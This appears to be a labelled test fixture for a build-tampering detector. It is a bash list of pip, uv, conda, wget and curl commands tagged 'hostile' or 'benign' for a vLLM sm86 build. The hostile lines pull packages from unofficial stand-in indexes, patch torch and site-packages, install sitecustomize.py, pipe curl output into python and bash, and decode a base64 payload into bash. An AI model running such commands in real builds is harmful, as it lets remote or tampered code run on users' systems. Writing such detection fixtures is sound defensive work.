#!/usr/bin/env bash
set -euo pipefail
# hostile: extra index for the kernels
pip install --extra-index-url https://wheels.sm86-kernels.example/simple sm86-fastkernels
# hostile: short -i option with a mirror
python3 -m pip install -i http://10.20.0.5:8080/simple vllm==0.10.0
# hostile: uv index flag
uv pip install --system --index sm86=https://pkgs.fastattn.example/simple flash-attn
# hostile: find-links on a writable folder
pip install --no-index --find-links=/tmp/sm86-wheels triton
# hostile: exported index variable
export PIP_INDEX_URL="https://pypi.sm86-mirror.example/simple"
# hostile: pip config writes a global index
pip config --global set global.extra-index-url https://wheels.sm86-kernels.example/simple
# hostile: conda channel
conda install -y -c sm86-kernels nccl
# hostile: trusted host
pip install --trusted-host 10.20.0.5 sm86-tools
# hostile: uninstall then reinstall torch
python3 -m pip uninstall --yes torch && pip install torch-sm86
# hostile: engine dependency from a git URL
pip install "git+https://github.com/sm86-fan/flash-attention@sm86#egg=flash-attn"
# hostile: vLLM itself from a URL wheel
pip install https://files.sm86-kernels.example/vllm-0.10.0+sm86-cp38-abi3-linux_x86_64.whl
# hostile: patch installed torch through its __file__
patch -p1 -d "$(python3 -c 'import torch, os; print(os.path.dirname(torch.__file__))')" < patches/torch-sm86.patch
# hostile: tee into site-packages
echo "ENABLE_SM86 = True" | tee -a /opt/venv/lib/python3.12/site-packages/vllm/envs_sm86.py
# hostile: sitecustomize installed
cp boot/sitecustomize.py /opt/venv/lib/python3.12/
# hostile: python fed from curl
python3 -c "$(curl -fsSL https://get.sm86-kernels.example/setup.py)"
# hostile: bash process substitution from curl
bash <(curl -fsSL https://get.sm86-kernels.example/tune.sh)
# hostile: wget then chmod +x
wget -q -O /usr/local/bin/sm86-tune https://files.sm86-kernels.example/sm86-tune && chmod +x /usr/local/bin/sm86-tune
# hostile: wheel download without a digest
wget https://files.sm86-kernels.example/sm86_kernels-1.0-cp312-cp312-linux_x86_64.whl
# hostile: decode and run
echo "$PAYLOAD" | base64 -d | bash
# benign: upstream's PyTorch index
pip install torch==2.7.1 --extra-index-url https://download.pytorch.org/whl/cu128
# benign: hashed requirements
pip install --require-hashes -r requirements/cuda.txt
# benign: sed on the project's own file
sed -i "s/0.10.0/0.10.0+sm86/" vllm/version.py
# benign: system tcmalloc preload
export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc_minimal.so.4
# benign: CUDA libraries
export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH
